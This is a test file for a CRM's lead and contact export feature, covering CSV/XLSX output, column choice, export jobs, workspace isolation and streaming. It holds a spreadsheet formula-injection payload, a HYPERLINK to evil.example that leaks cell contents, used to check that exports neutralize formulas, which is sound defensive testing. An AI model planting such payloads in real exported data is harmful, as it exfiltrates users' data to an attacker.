import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type Session, type TestApp, testApp } from '../../../test/app.js';
import { DB_KINDS } from '../../../test/db.js';
import { type Client, client, expectProblem, walk } from '../../../test/helpers.js';
import { targetFields } from '../imports/import-fields.js';
import type { ImportEntity } from '../imports/imports.schemas.js';
import { systemCtx } from '../shared/context.js';
import { openExport } from './export.service.js';
import { EXPORT_DEFS } from './export-resources.js';
import { restoreCell } from './spreadsheet-safety.js';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

/** Parses a CSV export: BOM stripped, RFC 4180, every cell restored as the import will. */
function parseCsv(body: string): string[][] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  const r = Papa.parse<string[]>(body.slice(1), { skipEmptyLines: true });
  expect(r.errors).toEqual([]);
  return r.data;
}

async function readXlsx(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const rows: string[][] = [];
  let formulas = 0;
  const width = ws.getRow(1).cellCount;
  ws.eachRow({ includeEmpty: false }, (row) => {
    const cells: string[] = [];
    for (let i = 1; i <= width; i++) {
      const cell = row.getCell(i);
      if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
      const v = cell.value;
      if (v !== null && typeof v !== 'string') throw new Error(`cell ${cell.address} is not text: ${v}`);
      cells.push(v ?? '');
    }
    rows.push(cells);
  });
  return { rows, formulas, frozen: ws.views[0], headerBold: ws.getRow(1).getCell(1).font?.bold };
}

describe.each(DB_KINDS)('exports on %s', (kind) => {
  let t: TestApp;
  let s: Session;
  let c: Client;
  let evilId: string;
  let dir: string;
  let bulk: Session;
  const exp = (url: string) => t.app.inject({ method: 'GET', url, headers: s.auth });

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'lb-exports-'));
    process.env.LEADBASE_EXPORTS_DIR = dir;
    t = await testApp(kind);
    s = await t.signup('Exporter');
    c = client(t, s);
    for (const f of [
      { entity: 'lead', key: 'budget', label: 'Budget', type: 'money' },
      {
        entity: 'contact',
        key: 'hobbies',
        label: 'Hobbies',
        type: 'multiselect',
        options: [
          { value: 'golf', label: 'Golf' },
          { value: 'chess', label: 'Chess' },
        ],
      },
    ]) {
      const r = await c.post('/api/v1/custom-fields', f);
      expect(r.status, JSON.stringify(r.body)).toBe(201);
    }
    const leads = [
      { firstName: 'Maya', lastName: 'Patel', email: 'maya@example.com', source: 'web', status: 'new' },
      { firstName: 'Olu', lastName: 'Ade', phone: '+14155552671', source: 'web', status: 'contacted' },
      { firstName: 'Ann', lastName: 'Lee', company: 'Lee, "Quoted" & Co', source: 'web', status: 'new' },
      { firstName: 'Bo', lastName: 'Ng', source: 'partner', status: 'new', dealValue: '-250.50' },
      { firstName: EVIL, lastName: 'Evil', source: 'web', status: 'new', title: '@SUM(1+1)\nline two' },
    ];
    for (const [i, l] of leads.entries()) {
      const r = await c.post('/api/v1/leads', {
        ...l,
        customFields: { budget: `${1000 * (i + 1)}.50` },
        ownerId: i === 0 ? s.userId : undefined,
        contactCustomFields: i === 0 ? { hobbies: ['golf', 'chess'] } : undefined,
      });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
      if (l.firstName === EVIL) evilId = r.body.id;
    }
  });
  afterAll(async () => {
    await t?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('exports the filtered list as CSV: BOM, import labels, custom fields, the list API’s rows', async () => {
    const filter = 'status=new&source=web&sort=lastName';
    const r = await exp(`/api/v1/leads/export?${filter}`);
    expect(r.statusCode, r.body).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(r.headers['content-disposition']).toBe(`attachment; filename="leads-${today}.csv"`);
    const [head, ...rows] = parseCsv(r.body);
    expect(head!.slice(0, 4)).toEqual(['Leadbase ID', 'First name', 'Last name', 'Email']);
    expect(head).toContain('Budget');
    expect(head).toContain('Contact: Hobbies');
    expect(head).toContain('Owner');
    const listed = await walk(c, `/api/v1/leads?${filter}`, 2);
    expect(listed.length).toBe(3);
    expect(rows.map((x) => x[0])).toEqual(listed.map((l) => l.id));
    const maya = Object.fromEntries(head!.map((h, i) => [h, rows.find((x) => x[1] === 'Maya')![i]]));
    expect(maya).toMatchObject({
      Email: 'maya@example.com',
      Budget: '1000.50',
      'Contact: Hobbies': 'golf; chess',
      Stage: 'New',
      Pipeline: expect.any(String),
      Owner: expect.stringMatching(/^exporter.*@example\.com$/),
      Source: 'web',
    });
    expect(maya['Created at']).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    // Every header of the default set is an import field label of the same workspace.
    const labels = new Set(
      (await targetFields(t.handle.db, systemCtx(s.workspaceId), 'leads')).map((f) => f.label),
    );
    expect(head!.filter((h) => !labels.has(h))).toEqual([]);
  });

  it('neutralizes formula cells in CSV; the import’s restoreCell gives the stored text back', async () => {
    const r = await exp('/api/v1/leads/export?columns=id,firstName,title,dealValue');
    const text = r.body as string;
    // RFC 4180: the quotes of the formula doubled, the whole field quoted, the apostrophe first.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(text).toContain(`"'@SUM(1+1)\nline two"`);
    const rows = parseCsv(text);
    const evil = rows.find((x) => x[0] === evilId)!;
    expect(evil[1]!.startsWith("'=")).toBe(true);
    expect(evil.map(restoreCell)).toEqual([evilId, EVIL, '@SUM(1+1)\nline two', '']);
    // A plain negative amount is a number, not a formula: left as it is.
    expect(rows.some((x) => x[3] === '-250.50')).toBe(true);
  });

  it('columns= picks and orders the columns; an unknown one is a 422 naming it', async () => {
    const r = await exp('/api/v1/leads/export?columns=email,custom.budget,contact.custom.hobbies,id&q=maya');
    expect(r.statusCode, r.body).toBe(200);
    const rows = parseCsv(r.body);
    expect(rows[0]).toEqual(['Email', 'Budget', 'Contact: Hobbies', 'Leadbase ID']);
    expect(rows.slice(1)).toEqual([['maya@example.com', '1000.50', 'golf; chess', expect.any(String)]]);
    const bad = await c.get('/api/v1/leads/export?columns=email,nope');
    expectProblem(bad, 422, [['columns', /unknown column "nope"/]]);
    expectProblem(await c.get('/api/v1/leads/export?columns=email,email'), 422, ['columns']);
    expectProblem(await c.get('/api/v1/leads/export?status=bogus'), 400, ['status[0]']);
    expectProblem(await c.get('/api/v1/leads/export?limit=5'), 400);
    expectProblem(await c.get('/api/v1/leads/export?format=pdf'), 400, ['format']);
  });

  it('writes an xlsx whose cells equal the CSV’s: text cells, no formulas, bold frozen header', async () => {
    const q = 'sort=lastName&columns=id,firstName,lastName,company,title,dealValue,custom.budget';
    const csv = parseCsv((await exp(`/api/v1/leads/export?${q}`)).body);
    const r = await exp(`/api/v1/leads/export?${q}&format=xlsx`);
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(r.headers['content-disposition']).toMatch(/filename="leads-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const x = await readXlsx(r.rawPayload);
    expect(x.formulas).toBe(0);
    expect(x.rows).toEqual(csv);
    expect(x.rows.length).toBe(6);
    expect(x.frozen).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(x.headerBold).toBe(true);
  });

  it('exports every list with its own filters and the import’s labels', async () => {
    const acc = await c.post('/api/v1/accounts', { name: 'Acme Ltd', domain: 'acme.example' });
    const ct = await c.post('/api/v1/contacts', {
      firstName: 'Cara',
      lastName: 'Acme',
      email: 'cara@acme.example',
      accountId: acc.body.id,
    });
    expect(ct.status, JSON.stringify(ct.body)).toBe(201);
    await c.post('/api/v1/tasks', { title: '+call Cara', contactId: ct.body.id });
    await c.post('/api/v1/activities', { type: 'note', contactId: ct.body.id, body: 'Met at fair' });
    const checks: [string, string, ImportEntity | null, Record<string, string>][] = [
      ['contacts', 'q=cara', 'contacts', { Account: 'Acme Ltd', Email: 'cara@acme.example' }],
      ['accounts', 'q=acme', 'accounts', { 'Account name': 'Acme Ltd', Domain: 'acme.example' }],
      [
        'activities',
        'type=note',
        'activities',
        { 'Contact email': 'cara@acme.example', Body: 'Met at fair' },
      ],
      ['tasks', 'status=pending', null, { Title: "'+call Cara", Contact: 'Cara Acme' }],
      ['deals', '', 'deals', {}],
    ];
    for (const [resource, filter, entity, expected] of checks) {
      const r = await exp(`/api/v1/${resource}/export?${filter}`);
      expect(r.statusCode, `${resource}: ${r.body}`).toBe(200);
      const [head, ...rows] = parseCsv(r.body);
      expect(head![0]).toBe('Leadbase ID');
      const listed = await walk(c, `/api/v1/${resource}?${filter}`, 50);
      expect(rows.length, resource).toBe(listed.length);
      if (rows.length) {
        const first = Object.fromEntries(head!.map((h, i) => [h, rows[0]![i]]));
        expect(first, resource).toMatchObject(expected);
      }
      if (entity && entity !== 'activities') {
        const labels = new Set(
          (await targetFields(t.handle.db, systemCtx(s.workspaceId), entity)).map((f) => f.label),
        );
        expect(
          head!.filter((h) => !labels.has(h)),
          resource,
        ).toEqual([]);
      }
    }
    const cols = await c.get('/api/v1/leads/export/columns');
    expect(cols.status).toBe(200);
    expect(cols.body.data[0]).toEqual({ key: 'id', label: 'Leadbase ID', default: true });
    expect(cols.body.data).toContainEqual({ key: 'score', label: 'Score', default: false });
    expect(cols.body.data).toContainEqual({ key: 'custom.budget', label: 'Budget', default: true });
  });

  it('runs a background export job whose file equals the streamed export; another workspace sees nothing', async () => {
    const body = { format: 'csv', filters: { status: 'new', sort: 'lastName' } };
    const r = await c.post('/api/v1/leads/export-jobs', body);
    expect(r.status, JSON.stringify(r.body)).toBe(202);
    let job: { status: string; progress: number; result: Record<string, unknown> | null } = r.body;
    for (let i = 0; i < 100; i++) {
      job = (await c.get(`/api/v1/jobs/${r.body.jobId}`)).body;
      if (job.status === 'succeeded' || job.status === 'failed') break;
      await new Promise((ok) => setTimeout(ok, 50));
    }
    expect(job).toMatchObject({ status: 'succeeded', progress: 4, result: { rows: 4 } });
    const file = await exp(r.body.fileUrl);
    expect(file.statusCode, file.body).toBe(200);
    expect(file.headers['content-disposition']).toMatch(/filename="leads-.*\.csv"/);
    const direct = await exp('/api/v1/leads/export?status=new&sort=lastName');
    expect(file.body).toBe(direct.body);
    expectProblem(await c.post('/api/v1/leads/export-jobs', { filters: { nope: '1' } }), 422, [
      'filters.nope',
    ]);
    expectProblem(await c.post('/api/v1/leads/export-jobs', { columns: ['zzz'] }), 422, ['columns']);

    const other = await t.signup('Other');
    const o = client(t, other);
    const mine = await t.app.inject({ method: 'GET', url: '/api/v1/leads/export', headers: other.auth });
    expect(parseCsv(mine.body).length).toBe(1); // the header only
    expectProblem(await o.get(r.body.fileUrl), 404);
    expectProblem(await o.get(`/api/v1/jobs/${r.body.jobId}`), 404);
  });

  it('streams a 20,000-lead export page by page (20,001 lines)', async () => {
    bulk = await t.signup('Bulk');
    const [stage] = (
      (await t.handle.db.execute(
        sql`select pipeline_id, id from stages where workspace_id = ${bulk.workspaceId} order by position limit 1`,
      )) as unknown as { rows: { pipeline_id: string; id: string }[] }
    ).rows;
    await t.handle.db.execute(sql`
      with c as (
        insert into contacts (workspace_id, id, first_name, last_name)
        select ${bulk.workspaceId}::uuid, gen_random_uuid(), 'Bulk', 'Person ' || g from generate_series(1, 20000) g
        returning id
      )
      insert into leads (workspace_id, id, contact_id, pipeline_id, stage_id, status, source)
      select ${bulk.workspaceId}::uuid, gen_random_uuid(), c.id, ${stage!.pipeline_id}::uuid, ${stage!.id}::uuid, 'new', '=bulk'
      from c`);
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const addr = t.app.server.address() as { port: number };
    const res = await fetch(`http://127.0.0.1:${addr.port}/api/v1/leads/export?source==bulk`, {
      headers: bulk.auth,
    });
    expect(res.status).toBe(200);
    // Read as a stream: count lines and chunks without keeping the body.
    let lines = 0;
    let chunks = 0;
    let neutralized = 0;
    const decoder = new TextDecoder();
    let tail = '';
    for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
      chunks += 1;
      const text = tail + decoder.decode(chunk, { stream: true });
      const parts = text.split('\r\n');
      tail = parts.pop()!;
      lines += parts.length;
      for (const p of parts) if (p.includes(",'=bulk,")) neutralized += 1;
    }
    expect(tail).toBe('');
    expect(lines).toBe(20_001);
    expect(neutralized).toBe(20_000);
    expect(chunks).toBeGreaterThan(1);
  }, 120_000);

  it('reads at most a page or two ahead of a slow reader, and stops when the reader goes away', async () => {
    const calls = vi.spyOn(EXPORT_DEFS.leads, 'list');
    try {
      for (const format of ['csv', 'xlsx'] as const) {
        calls.mockClear();
        const ex = await openExport(t.handle.db, systemCtx(bulk.workspaceId), {
          resource: 'leads',
          format,
          query: { sort: '-createdAt', deleted: 'exclude' },
        });
        const reader = ex.stream[Symbol.asyncIterator]();
        await reader.next();
        // Long enough for an unbounded export to read many pages (one takes ~50 ms here).
        await new Promise((ok) => setTimeout(ok, 1000));
        expect(calls.mock.calls.length, format).toBeLessThanOrEqual(3);
        // The reader goes away (a closed download): no more pages are read.
        ex.stream.destroy();
        const seen = calls.mock.calls.length;
        await new Promise((ok) => setTimeout(ok, 300));
        expect(calls.mock.calls.length, format).toBe(seen);
      }
    } finally {
      calls.mockRestore();
    }
  }, 120_000);
});
